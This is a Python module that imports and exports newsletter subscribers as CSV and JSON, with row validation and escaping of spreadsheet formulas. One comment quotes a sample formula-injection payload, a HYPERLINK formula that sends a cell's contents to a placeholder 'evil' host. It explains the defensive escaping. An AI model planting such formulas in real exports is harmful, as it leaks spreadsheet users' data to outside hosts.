"""Readers to and from CSV and JSON, for import and export.

JSON is a list of the objects ``paperwire subscribers --json`` prints. CSV has one row
per (reader, topic) so it stays flat for spreadsheets; rows with the same email are
one reader. Import checks every row first and names the file, line and field of the
first bad one, so a bad file imports nothing.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import replace
from typing import Any

from . import liked
from .errors import ValidationError
from .models import BounceEvent, Subscriber, Topic
from .normalize import not_utf8
from .sources.hf_json import json_kind
from .subscribers import build_subscriber, make_topic

CSV_COLUMNS = ("email", "name", "status", "cadence", "hour", "timezone", "max", "topic_name", "topic_query")


def subscriber_record(subscriber: Subscriber) -> dict[str, Any]:
    """The public shape of a reader (``subscribers --json``, export, later the API)."""
    return {
        "email": subscriber.email, "name": subscriber.name, "status": subscriber.status,
        "cadence": subscriber.cadence, "hour": subscriber.hour, "timezone": subscriber.timezone,
        "max": subscriber.max_papers, "topics": [{"name": t.name, "query": t.query} for t in subscriber.topics],
    }


def bounce_record(event: BounceEvent | None) -> dict[str, Any] | None:
    """The public shape of a bounce event (``last_bounce`` in ``subscribers --json``, ``status
    --json`` and the admin API)."""
    if event is None:
        return None
    return {"kind": event.kind, "status": event.status, "diagnostic": event.diagnostic, "source": event.source,
            "recipient": event.recipient, "at": event.received_at.isoformat()}


def to_json(readers: Iterable[Subscriber]) -> str:
    return json.dumps([subscriber_record(r) for r in readers], indent=2, ensure_ascii=False) + "\n"


# A spreadsheet runs a cell that starts with = + - @ (or a tab or CR) as a formula, and a
# reader's name comes from the sign-up form ('=HYPERLINK("http://evil/?"&A1)'). Such cells
# are written after a ' (OWASP's advice), which spreadsheets hide and from_csv removes.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _inert(value: Any) -> Any:
    """A cell that starts a formula, or a ' (so that ``_as_written`` knows which to remove), after a '."""
    return "'" + value if isinstance(value, str) and value.startswith((*_FORMULA_START, "'")) else value


def _as_written(value: Any) -> Any:
    """A cell as ``to_csv`` was given it (see ``_inert``)."""
    if isinstance(value, str) and value[:1] == "'" and value[1:].startswith((*_FORMULA_START, "'")):
        return value[1:]
    return value


def to_csv(readers: Iterable[Subscriber]) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(CSV_COLUMNS)
    for reader in readers:
        record = subscriber_record(reader)
        for topic in record["topics"]:
            writer.writerow([_inert(value) for value in
                             [record[c] for c in CSV_COLUMNS[:7]] + [topic["name"], topic["query"]]])
    return out.getvalue()


def _topic(raw: Mapping[str, Any], public: Mapping[str, Topic]) -> Topic:
    name, query = raw.get("name"), raw.get("query")
    shared = public.get(str(name or "").casefold())
    if shared is not None and shared.query == " ".join(str(query or "").split()):
        return shared  # the reader follows this public topic
    return make_topic(name, str(query or ""))


def _build(record: Mapping[str, Any], topics: Sequence[Topic], where: str) -> Subscriber:
    try:
        return build_subscriber(
            str(record.get("email") or ""), name=record.get("name"), status=record.get("status") or None,
            cadence=record.get("cadence") or None, hour=_blank_to_none(record.get("hour")),
            timezone=record.get("timezone") or None, max_papers=_blank_to_none(record.get("max")), topics=topics)
    except ValidationError as exc:
        raise ValidationError(exc.field, exc.reason, where=where) from None


def _blank_to_none(value: Any) -> Any:
    return None if value is None or (isinstance(value, str) and not value.strip()) else value


def decode(data: bytes, origin: str) -> str:
    """A readers file's text. Only UTF-8 (a spreadsheet's BOM dropped): read as anything else,
    a cp1252 export would store misspelt names, so it is refused naming the line."""
    try:
        return data.decode("utf-8").removeprefix("\ufeff")  # not utf-8-sig: its offsets skip the BOM
    except UnicodeDecodeError as exc:
        line, reason = not_utf8(exc)
        raise ValidationError("encoding", f"{reason}; save the file as UTF-8", where=f"{origin}:{line}") from None


def from_json(text: str, origin: str, public: Mapping[str, Topic]) -> list[Subscriber]:
    try:
        data = json.loads(text)
    except json.JSONDecodeError as exc:
        raise ValidationError("json", exc.msg, where=f"{origin}:{exc.lineno}") from None
    if not isinstance(data, list) or not all(isinstance(item, dict) for item in data):
        raise ValidationError("json", "expected a list of reader objects", where=origin)
    readers, errors = [], []
    for number, item in enumerate(data, start=1):
        try:
            readers.append(_json_reader(item, public, f"{origin}: reader {number}"))
        except ValidationError as exc:
            errors.append(exc)
    _all_or_none(errors, origin)
    return _unique(readers, origin)


def _json_reader(item: Mapping[str, Any], public: Mapping[str, Topic], where: str) -> Subscriber:
    unknown = sorted(set(item) - _JSON_KEYS)
    if unknown:  # a misspelt key ("emial") would otherwise be dropped without a word
        raise ValidationError(unknown[0], f"unknown key; a reader has {', '.join(sorted(_JSON_KEYS))}", where=where)
    raw_topics = item.get("topics") or []
    if not isinstance(raw_topics, list) or not all(isinstance(t, dict) for t in raw_topics):
        raise ValidationError("topics", "expected a list of {name, query} objects", where=where)
    for number, raw in enumerate(raw_topics, start=1):
        for key in ("name", "query"):
            if not isinstance(raw.get(key, ""), str | None):  # 5 is not the topic "5" by accident
                raise ValidationError(f"topics[{number}].{key}", f"expected text, got {json_kind(raw[key])}",
                                      where=where)
    try:
        topics = [_topic(t, public) for t in raw_topics]
    except ValidationError as exc:
        raise ValidationError(exc.field, exc.reason, where=where) from None
    return _build(item, topics, where)


def from_csv(text: str, origin: str, public: Mapping[str, Topic]) -> list[Subscriber]:
    reader = csv.DictReader(io.StringIO(text.lstrip("\ufeff")))
    missing = [c for c in ("email", "topic_query") if c not in (reader.fieldnames or [])]
    if missing:
        raise ValidationError("header", f"missing column(s) {', '.join(missing)}; expected {', '.join(CSV_COLUMNS)}",
                              where=f"{origin}:1")
    grouped: dict[str, tuple[dict, list[Topic], int]] = {}
    errors: dict[int, ValidationError] = {}  # by line: one a line, reported in file order
    for row in reader:
        row = {column: _as_written(value) for column, value in row.items()}
        where = f"{origin}:{reader.line_num}"
        email = (row.get("email") or "").strip().casefold()
        try:
            topic = _topic({"name": row.get("topic_name"), "query": row.get("topic_query")}, public)
            if email in grouped:
                first, topics, line = grouped[email]
                _same_settings(row, first, line, where)
                topics.append(topic)
            else:
                grouped[email] = (row, [topic], reader.line_num)
        except ValidationError as exc:
            errors[reader.line_num] = ValidationError(exc.field, exc.reason, where=where)
    readers = []
    for row, topics, line in grouped.values():
        try:
            readers.append(_build(row, topics, f"{origin}:{line}"))
        except ValidationError as exc:
            errors.setdefault(line, exc)
    _all_or_none([errors[line] for line in sorted(errors)], origin)
    return _unique(readers, origin)


MAX_ERRORS_SHOWN = 20  # a file with more bad rows than this is likely in another format altogether


def _all_or_none(errors: Sequence[ValidationError], origin: str) -> None:
    """Refuse the file if any row is bad, naming every bad row (up to ``MAX_ERRORS_SHOWN``),
    so that one pass fixes the file: a 1,000-line export with three bad rows took three runs."""
    if len(errors) == 1:
        raise errors[0]
    if errors:
        shown = [str(error).replace("\n", "\n  ") for error in errors[:MAX_ERRORS_SHOWN]]
        more = len(errors) - len(shown)
        raise ValidationError("rows", f"{len(errors)} bad, nothing imported:\n  " + "\n  ".join(shown)
                              + (f"\n  ... and {more} more" if more else ""), where=origin)


_SETTINGS = CSV_COLUMNS[1:7]  # a reader's own columns, on their first row (later rows add topics)
_JSON_KEYS = frozenset([*CSV_COLUMNS[:7], "topics", "last_bounce"])  # what `subscribers --json` prints


def _same_settings(row: Mapping[str, Any], first: Mapping[str, Any], first_line: int, where: str) -> None:
    """A reader's later row may leave their settings blank or repeat them, not change them:
    which one was meant is not for the import to guess."""
    for column in _SETTINGS:
        value, kept = str(row.get(column) or "").strip(), str(first.get(column) or "").strip()
        if value and value != kept:
            raise ValidationError(column, f"{value!r} differs from {kept!r} on line {first_line} for the same "
                                  "reader: their settings are those of their first row, later rows add topics",
                                  where=where)


def keeping_liked(readers: Iterable[Subscriber], stored: Callable[[str], Subscriber | None]) -> list[Subscriber]:
    """``readers`` from a file with each one's stored Liked list kept (``stored``: the stored
    reader by email), as ``subscribe --topic`` keeps it: a file made before they liked a paper,
    or by hand, must not forget their likes. A reader the file gives a topic named Liked gets
    exactly the file's (an export carries the list, so a round trip stays exact)."""
    kept = []
    for reader in readers:
        base = stored(reader.email)
        kept.append(reader if base is None
                    else replace(reader, topics=liked.keep_liked(list(reader.topics), base.topics)))
    return kept


def _unique(readers: list[Subscriber], origin: str) -> list[Subscriber]:
    seen: set[str] = set()
    for reader in readers:
        if reader.email in seen:
            raise ValidationError("email", f"{reader.email} appears twice", where=origin)
        seen.add(reader.email)
    return readers
